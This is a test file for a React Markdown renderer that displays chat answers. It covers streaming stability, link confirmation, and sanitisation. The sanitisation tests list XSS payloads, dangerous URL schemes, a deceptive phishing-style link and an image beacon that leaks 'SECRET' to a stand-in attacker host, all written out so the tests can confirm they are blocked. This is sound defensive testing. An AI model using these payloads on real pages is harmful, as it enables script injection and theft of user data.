import { render, screen, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import * as fc from "fast-check";
import { describe, expect, it, vi } from "vitest";
import { TooltipProvider } from "../../ui/tooltip-provider.tsx";
import Markdown from "./markdown.tsx";
import { NO_BLOCKS, readBlocks } from "./markdown.tsx";

const draw = (text: string) =>
  render(
    <TooltipProvider>
      <Markdown text={text} />
    </TooltipProvider>,
  );

const LONG = Array.from(
  { length: 60 },
  (_, at) =>
    `## Part ${at}\n\nSome *words* about [SOL](https://example.org/${at}).\n\n- one\n- two\n\n  more\n\n` +
    `| a | b |\n|---|---|\n| ${at} | x |\n\n\`\`\`ts\nconst a = ${at};\n\n\nconst b = 1;\n\`\`\`\n\n> quote\n\n`,
).join("");

describe("an answer's text", () => {
  it("shows headings, lists, tables, code and emphasis", () => {
    draw(
      "# Top\n\n1. **one**\n2. two\n\n| Market | P&L |\n|---|--:|\n| SOL | 3 % |\n\n```js\nlet a;\n```",
    );
    expect(screen.getByRole("heading", { name: "Top" })).toBeTruthy();
    expect(screen.getAllByRole("listitem").map((item) => item.textContent)).toEqual(["one", "two"]);
    expect(screen.getByRole("columnheader", { name: "P&L" })).toBeTruthy();
    expect(screen.getByRole("cell", { name: "3 %" })).toBeTruthy();
    expect(screen.getByLabelText("Code").textContent).toBe("let a;");
  });

  it("copies code unchanged", async () => {
    const user = userEvent.setup();
    draw("```\nif (a < b) run();\n```");
    await user.click(screen.getByRole("button", { name: "Copy code" }));
    expect(await navigator.clipboard.readText()).toBe("if (a < b) run();");
  });

  it("shows a link's host and asks before it opens", async () => {
    const user = userEvent.setup();
    const open = vi.spyOn(window, "open").mockReturnValue(null);
    draw("[Your bank](https://phantom.app@evil.example/login)");
    const link = screen.getByRole("link");
    expect(link.textContent).toBe("Your bank (evil.example)");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    await user.click(link);
    expect(open).not.toHaveBeenCalled();
    const dialog = await screen.findByRole("alertdialog");
    within(dialog).getByText("https://phantom.app@evil.example/login");
    await user.click(within(dialog).getByRole("button", { name: "Open in new tab" }));
    expect(open).toHaveBeenCalledWith(
      "https://phantom.app@evil.example/login",
      "_blank",
      "noopener,noreferrer",
    );
    open.mockRestore();
  });

  it.each([
    "[a](javascript:alert(1))",
    "[a](data:text/html,<b>x</b>)",
    "[a](vbscript:x)",
    "[a](JaVaScRiPt&#58;alert(1))",
    "[a](http://plain.example)",
    "[a](//evil.example/x)",
    "[a](/api/chats)",
    "<a href='https://evil.example'>x</a>",
  ])("creates no link for %s", (text) => {
    draw(text);
    expect(screen.queryByRole("link")).toBeNull();
  });

  it.each([
    "![p](https://evil.example/?q=SECRET)",
    "![p][r]\n\n[r]: https://evil.example/x.png",
    "<img src=https://evil.example/x onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<style>*{background:url(https://evil.example)}</style>",
    "a <b onmouseover=alert(1)>b</b>",
    "| <img src=x> | b |\n|---|---|\n| <script>x</script> | y |",
  ])("creates no element for %s", (text) => {
    const { container } = draw(text);
    expect(
      container.querySelector(
        "img, svg:not(.lucide), iframe, script, style, math, link, object, b",
      ),
    ).toBeNull();
    expect(container.innerHTML).not.toMatch(/<[^>]+\s(?:on\w+|src|srcdoc|xlink:href)=/i);
  });

  it("renders identically when streamed and when complete", () => {
    const text = LONG.slice(0, 3000);
    const whole = draw(text).container.innerHTML;
    const { container, rerender } = draw("");
    for (let length = 0; length < text.length + 97; length += 97) {
      rerender(
        <TooltipProvider>
          <Markdown text={text.slice(0, length)} />
        </TooltipProvider>,
      );
    }
    const plain = (html: string) => html.replace(/ id="[^"]*"/g, "");
    expect(plain(container.innerHTML)).toBe(plain(whole));
  });

  it("keeps every finished element in place while the answer grows", () => {
    const text = LONG.slice(0, 6000);
    const { container, rerender } = draw(text.slice(0, 400));
    const blocks = [...(container.firstElementChild?.firstElementChild?.children ?? [])];
    const finished = blocks.slice(0, -1);
    expect(finished.length).toBeGreaterThan(4);
    for (let length = 400; length <= text.length; length += 200) {
      rerender(
        <TooltipProvider>
          <Markdown text={text.slice(0, length)} />
        </TooltipProvider>,
      );
    }
    for (const element of finished) expect(container.contains(element)).toBe(true);
  });

  it("draws a link whose address is defined later", () => {
    const { rerender } = draw("See [the report][1].\n\nMore.\n\n");
    expect(screen.queryByRole("link")).toBeNull();
    rerender(
      <TooltipProvider>
        <Markdown text={"See [the report][1].\n\nMore.\n\n[1]: https://example.org/report\n"} />
      </TooltipProvider>,
    );
    expect(screen.getByRole("link").textContent).toBe("the report (example.org)");
  });

  it("keeps finished blocks when more text arrives", () => {
    const half = readBlocks(NO_BLOCKS, LONG.slice(0, LONG.length / 2));
    const more = readBlocks(half, LONG);
    expect(half.chunks.length).toBeGreaterThan(5);
    half.chunks.forEach((chunk, at) => expect(more.chunks[at]).toBe(chunk));
    expect(LONG.length - more.doneLength).toBeLessThan(4000);
  });

  it("parses the same blocks however the text is cut", () => {
    const texts = (blocks: ReturnType<typeof readBlocks>) =>
      [...blocks.chunks.flatMap(({ tokens }) => tokens), ...blocks.tail].map(({ raw }) => raw);
    const whole = texts(readBlocks(NO_BLOCKS, LONG));
    fc.assert(
      fc.property(fc.array(fc.nat(LONG.length), { maxLength: 8 }), (cuts) => {
        let read = NO_BLOCKS;
        for (const cut of cuts.toSorted((a, b) => a - b))
          read = readBlocks(read, LONG.slice(0, cut));
        expect(texts(readBlocks(read, LONG))).toEqual(whole);
      }),
      { numRuns: 30 },
    );
  });

  const many = 45_000;
  it.each([
    ["quotes", ">".repeat(many)],
    ["quotes with spaces", "> ".repeat(many)],
    ["lists", "- ".repeat(many)],
    ["numbered lists", "1. ".repeat(many / 2)],
    ["quotes of lists", "> - ".repeat(many / 4)],
    ["emphasis", `${"*".repeat(many)}a${"*".repeat(many)}`],
    ["underscores", "_a".repeat(many)],
    ["emphasis over lines", "*a\n".repeat(many)],
    [
      "indented lists",
      Array.from({ length: 400 }, (_, at) => `${" ".repeat(at * 2)}- a`).join("\n"),
    ],
  ])("shows endless %s as plain text, without parsing them", (_, text) => {
    const { container } = draw(`Before.\n\n${text}`);
    expect(container.textContent).toContain(text);
    expect(readBlocks(NO_BLOCKS, text).plain).toBe(text);
  });

  it("still parses a long answer with much emphasis in lists and tables", () => {
    const list = Array.from({ length: 400 }, (_, at) => `- **SOL** and *BTC* \`${at}\``).join("\n");
    const table = Array.from({ length: 300 }, (_, at) => `| **${at}** | *x* |`).join("\n");
    draw(`${list}\n\n| a | b |\n|---|---|\n${table}`);
    expect(screen.getAllByRole("listitem")).toHaveLength(400);
    expect(screen.getAllByRole("row")).toHaveLength(301);
  });
});
